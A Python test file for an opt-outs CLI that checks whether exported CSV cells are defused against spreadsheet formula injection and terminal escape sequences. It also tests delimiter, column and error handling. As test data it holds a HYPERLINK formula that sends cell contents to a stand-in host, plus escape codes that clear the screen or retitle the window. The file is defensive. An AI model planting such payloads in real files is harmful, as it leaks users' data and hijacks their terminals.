"""CSV files that meet a spreadsheet or a terminal: no cell is run, none is lost, and nothing is left out in silence."""

import csv
import io
import os
import pty
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from redis import Redis
from sqlalchemy import URL, Engine, delete, insert, select

from models.tables import OPT_OUTS
from sync.cli import main
from sync.devtools.dev.embedded import RedisServer
from tests.conftest import NOW
from tests.support.events_builder import ANA, RUI
from tests.support.forked import Forked

Command = Callable[..., Result]

BY = ("--by", "Maria")
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"open")'


@pytest.fixture
def environ(migrated_url: URL, redis: Redis, redis_server: RedisServer) -> dict[str, str]:
    assert redis.dbsize() == 0
    url = migrated_url.render_as_string(hide_password=False)
    return {"DATABASE_URL": url, "REDIS_URL": redis_server.url}


@pytest.fixture
def command(environ: dict[str, str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Command:
    """Runs `opt-outs` on the test's database, in a folder of its own."""
    for name, value in environ.items():
        monkeypatch.setenv(name, value)
    for name in ("ZEXA_DEFAULT_REGION", "DYNO", "REDIS_TLS_VERIFY"):
        monkeypatch.delenv(name, raising=False)
    (tmp_path / "work").mkdir()
    monkeypatch.chdir(tmp_path / "work")
    return lambda *arguments: CliRunner().invoke(main, ["opt-outs", *arguments], catch_exceptions=False)


def opt_out(engine: Engine, address: str, sender: str = "", channel: str = "", note: str | None = None) -> None:
    row = {"channel": channel, "address": address, "sender": sender, "note": note, "source": "event"}
    times = {"opted_out_at": NOW, "received_at": NOW, "updated_at": NOW}
    with engine.begin() as connection:
        connection.execute(insert(OPT_OUTS).values(row | times))


def keys(engine: Engine) -> set[tuple[str, str, str, str | None]]:
    columns = OPT_OUTS.c
    with engine.connect() as connection:
        return {
            tuple(row)
            for row in connection.execute(select(columns.channel, columns.address, columns.sender, columns.note))
        }


def test_no_cell_of_an_export_is_a_formula_and_import_reads_each_as_it_was(engine: Engine, command: Command) -> None:
    opt_out(engine, ANA, sender=FORMULA, channel="sms", note="-2+3")
    opt_out(engine, "@ana", channel="slack")
    opt_out(engine, "=ana@example.com", channel="email", note="'=already defused")
    opt_out(engine, RUI, sender="+244900000001")
    before = keys(engine)
    assert command("export", "out.csv").exit_code == 0
    _, *rows = csv.reader(io.StringIO(Path("out.csv").read_text()))
    assert {row[0] for row in rows if row[0].startswith("+")} == {ANA, RUI}  # other programs can read them
    assert [cell for row in rows for cell in row if cell.startswith(("=", "-", "@"))] == []
    with engine.begin() as connection:
        connection.execute(delete(OPT_OUTS))
    result = command("import", "out.csv", *BY)
    assert result.exit_code == 0, result.output
    assert keys(engine) == before


def test_an_export_on_a_terminal_cannot_steer_it(engine: Engine, environ: dict[str, str], tmp_path: Path) -> None:
    opt_out(engine, ANA, sender="\x1b]0;gone\x07", note="\x1b[2J")
    command = ["python", "-m", "sync", "opt-outs", "export", "-"]
    leader, follower = pty.openpty()
    process = Forked(command, env=os.environ | environ, stdout=follower)
    os.close(follower)
    shown = b""
    while b"event" not in shown or not shown.endswith(b"\n"):
        shown += os.read(leader, 65536)
    assert process.wait(20) == 0
    os.close(leader)
    assert b"\x1b" not in shown
    assert b"\\x1b[2J" in shown
    with (tmp_path / "piped.csv").open("wb") as piped:
        assert Forked(command, env=os.environ | environ, stdout=piped).wait(60) == 0
    assert b"\x1b[2J" in (tmp_path / "piped.csv").read_bytes()


@pytest.mark.parametrize("header", ["phone,email", "Email;x;PHONE", "address\tto"])
def test_a_file_with_two_columns_of_addresses_is_asked_which(engine: Engine, command: Command, header: str) -> None:
    Path("in.csv").write_text(f"{header}\n912345678\n")
    result = command("import", "in.csv", *BY)
    assert (result.exit_code, result.stdout, result.stderr.count("\n")) == (2, "", 1)
    assert "name one with --column" in result.stderr
    assert keys(engine) == set()
    Path("in.csv").write_text("phone,email\n912345678,ana@example.com\n")
    for name in ("phone", "email"):
        assert command("import", "in.csv", *BY, "--column", name).exit_code == 0
    assert {key[1] for key in keys(engine)} == {ANA, "ana@example.com"}


SCRUBBED = ("--out", "clean.csv", "--removed", "removed.csv", "--invalid", "invalid.csv")


@pytest.mark.parametrize(("subcommand", "options"), [("import", BY), ("scrub", SCRUBBED)])
def test_who_names_a_column_that_is_not_there_is_told_which_are(
    command: Command, subcommand: str, options: tuple[str, ...]
) -> None:
    Path("in.csv").write_text("name;telefone;\x1b[2Jnota\nAna;912345678;x\n")
    result = command(subcommand, "in.csv", "--column", "phone", *options)
    assert (result.exit_code, result.stderr.count("\n")) == (2, 1)
    assert "it has name, telefone, \\x1b[2Jnota" in result.stderr
    Path("in.csv").write_text("Ana;912345678;ana@example.com\n")
    result = command(subcommand, "in.csv", "--column", "phone", *options)
    assert (result.exit_code, result.stderr.count("\n")) == (2, 1)
    assert "seems to hold data" in result.stderr
    assert "912345678" not in result.stderr
    assert "Ana" not in result.stderr


@pytest.mark.parametrize(
    ("line", "delimiter"),
    [(b"sep=;\r\n", b";"), (b'"sep=|"\n', b"|"), (b"SEP=,\n", b","), (b"\xef\xbb\xbfsep=\t\n", b"\t")],
)
def test_the_line_by_which_excel_is_told_the_delimiter_is_understood_and_kept(
    engine: Engine, command: Command, line: bytes, delimiter: bytes
) -> None:
    opt_out(engine, ANA)
    header, rows = b"name" + delimiter + b"phone\r\n", [b"x" + delimiter + b"%b\r\n"] * 3
    lines = [row % cell for row, cell in zip(rows, (b"912345678", b"923000111", b"none"), strict=True)]
    Path("in.csv").write_bytes(line + header + b"".join(lines))
    result = command("scrub", "in.csv", "--column", "phone", *SCRUBBED)
    assert result.exit_code == 0, result.output
    assert Path("removed.csv").read_bytes() == line + header + lines[0]
    assert Path("clean.csv").read_bytes() == line + header + lines[1]
    invalid = line + header[:-2] + delimiter + b"invalid_reason\r\n" + lines[2][:-2] + delimiter
    assert Path("invalid.csv").read_bytes() == invalid + b"no address\r\n"
    assert command("import", "in.csv", *BY, "--invalid", "bad.csv").exit_code == 1
    assert Path("bad.csv").read_bytes() == invalid + b"the address is none: no address\r\n"
    assert {key[1] for key in keys(engine)} == {ANA, RUI}


def test_a_delimiter_that_is_none_of_ours_is_refused(command: Command) -> None:
    for content in ("sep=:\nname:phone\n", "sep=;\n", "sep=;"):
        Path("in.csv").write_text(content)
        result = command("import", "in.csv", *BY)
        assert (result.exit_code, result.stderr.count("\n")) == (2, 1)


def test_a_file_that_cannot_be_written_is_said_in_one_line_and_nothing_is_done(
    engine: Engine, command: Command
) -> None:
    Path("in.csv").write_text("phone\n912345678\n")
    for name, status in (("nowhere/clean.csv", 1), ("in.csv/clean.csv", 1), ("x" * 300, 2)):
        options = ("--column", "phone", "--out", name, *SCRUBBED[2:])
        for arguments in (("scrub", "in.csv", *options), ("import", "in.csv", *BY, "--invalid", name)):
            result = command(*arguments)
            assert (result.exit_code, result.stdout, result.stderr.count("\n")) == (status, "", 1)
    assert os.listdir() == ["in.csv"]
    assert keys(engine) == set()
